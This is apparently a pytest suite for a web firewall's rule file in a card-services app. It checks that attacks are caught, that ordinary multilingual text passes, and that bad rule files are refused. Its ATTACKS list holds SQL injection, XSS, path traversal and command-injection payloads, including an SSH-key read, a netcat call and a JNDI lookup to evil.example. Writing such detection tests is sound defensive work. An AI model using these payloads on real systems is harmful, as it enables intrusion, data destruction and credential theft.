"""The firewall's rule file: strict validation, self-tests, attacks caught, legitimate text untouched."""

from __future__ import annotations

from pathlib import Path

import duckdb
import pytest
import yaml

from cardwise.security.waf_rules import DEFAULT_RULES, RulesError, load_rules, normalize

RULES = load_rules()

ATTACKS = [
    ("query", "id=1%27%20OR%20%271%27%3D%271", "sqli-tautology"),
    ("query", "q=1+union+select+null,password+from+users--", "sqli-union"),
    ("query", "q=1/**/UNION/**/SELECT/**/1", "sqli-union"),
    ("query", "id=5 or 1=1", "sqli-numeric-tautology"),
    ("body", "admin'--", "sqli-comment-terminator"),
    ("body", "1; DROP TABLE cards", "sqli-stacked"),
    ("body", "1 and pg_sleep(5)", "sqli-functions"),
    ("body", "<ScRiPt>alert(document.cookie)</sCrIpT>", "xss-script"),
    ("body", "＜script＞alert(1)＜/script＞", "xss-script"),
    ("query", "next=javascript:alert(1)", "xss-script"),
    ("body", '<img src=x onerror="alert(1)">', "xss-event-handler"),
    ("body", "<iframe src=//evil.example></iframe>", "xss-dangerous-tags"),
    ("path", "/v1/../../etc/passwd", "path-traversal"),
    ("query", "file=%252e%252e%252fetc%252fpasswd", "path-traversal"),
    ("body", "x; cat ~/.ssh/id_rsa", "cmd-injection"),
    ("body", "a | nc evil.example 4444", "cmd-injection"),
    ("body", "${jndi:ldap://evil.example/a}", "cmd-injection"),
]


@pytest.mark.parametrize(("target", "text", "rule"), ATTACKS)
def test_attacks_are_caught_by_the_right_rule(target: str, text: str, rule: str) -> None:
    m = RULES.inspect(target, text)  # type: ignore[arg-type]
    assert m is not None and m.rule_id == rule


LEGIT = [
    "상담사: 네 고객님, 카드 분실 신고 접수되었습니다. 고객: 네 감사합니다~ 그리고 한도 좀 올려 주세요!",
    "McDonald's 강남점",
    "Tony's Pizza & Pasta; 홍대입구",
    "L'Occitane / 롯데백화점 (본점)",
    "Don't select the 'premium' option; update later",
    "출금 -- 3만원 (점심값)",
    '{"note": "rock \'n\' roll"}',
    "2023-09-01T12:00:00+09:00",
    "/v1/customers/123/single-view",
    "grades=1&grades=2&segment=CAR_CARE",
    "a=1&b=two words&c=%ED%95%9C%EA%B8%80",
]


@pytest.mark.parametrize("text", LEGIT)
@pytest.mark.parametrize("target", ["path", "query", "body"])
def test_legitimate_text_passes(target: str, text: str) -> None:
    assert RULES.inspect(target, text) is None  # type: ignore[arg-type]


def test_scanner_user_agents() -> None:
    assert RULES.inspect_user_agent("sqlmap/1.8#stable") is not None
    assert RULES.inspect_user_agent("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) 카카오톡") is None


def test_normalize_decodes_twice_folds_width_and_strips_sql_comments() -> None:
    assert normalize("%253Cscript%253E") == "<script>"
    assert normalize("ＵＮＩＯＮ") == "union"
    assert normalize("un/**/ion") == "un ion"


def test_no_false_positive_on_the_lake_texts(small_lake: Path) -> None:
    """Every merchant name, call transcript and transfer memo of the generated lake passes as body text."""
    con = duckdb.connect()
    texts: list[str] = []
    for table, col in (("merchants", "name"), ("call_transcripts", "text"), ("transfer_memos", "memo")):
        files = sorted((small_lake / table).rglob("*.parquet"))
        assert files, table
        texts += [r[0] for r in con.execute(f"SELECT {col} FROM read_parquet({[str(f) for f in files]!r})").fetchall()]
    assert len(texts) > 1000
    blocked = [(t[:60], m.rule_id) for t in texts if (m := RULES.inspect("body", t)) is not None]
    assert blocked == []


def _write(tmp_path: Path, mutate) -> Path:  # type: ignore[no-untyped-def]
    data = yaml.safe_load(DEFAULT_RULES.read_text(encoding="utf-8"))
    mutate(data)
    path = tmp_path / "rules.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def test_a_rule_that_misses_its_own_example_is_refused(tmp_path: Path) -> None:
    def weaken(d: dict) -> None:
        d["patterns"][0]["pattern"] = r"\bunion\s+all\s+select\b"  # no longer catches "UNION SELECT"

    with pytest.raises(RulesError, match="sqli-union: does not block its own example"):
        load_rules(_write(tmp_path, weaken))


def test_a_rule_that_blocks_allowed_text_is_refused(tmp_path: Path) -> None:
    def broaden(d: dict) -> None:
        d["patterns"][0]["pattern"] = r"select"
        d["patterns"][0]["triggers"] = ["select"]
        d["patterns"][0]["examples"] = ["union select"]

    with pytest.raises(RulesError, match="blocks the allowed text 'select a card and update my address'"):
        load_rules(_write(tmp_path, broaden))


def test_a_rule_whose_examples_lack_its_triggers_is_refused(tmp_path: Path) -> None:
    def mismatch(d: dict) -> None:
        d["patterns"][0]["triggers"] = ["onion"]

    with pytest.raises(RulesError, match="sqli-union: none of its triggers is in its example"):
        load_rules(_write(tmp_path, mismatch))


def test_every_problem_is_listed(tmp_path: Path) -> None:
    def break_it(d: dict) -> None:
        d["rate_limits"][0]["limit"] = "10/fortnight"
        d["patterns"][1]["pattern"] = "(unclosed"
        d["surprise"] = 1

    with pytest.raises(RulesError) as exc:
        load_rules(_write(tmp_path, break_it))
    text = str(exc.value)
    assert "rate_limits.0.limit" in text and "patterns.1.pattern" in text and "surprise" in text


def test_a_bad_rules_path_stops_the_app(tmp_path: Path) -> None:
    from cardwise.api import create_app
    from tests.security.waf_fixtures import make_settings

    with pytest.raises(RulesError, match="cannot read"):
        create_app(make_settings(tmp_path, waf_rules_path=tmp_path / "missing.yaml"))
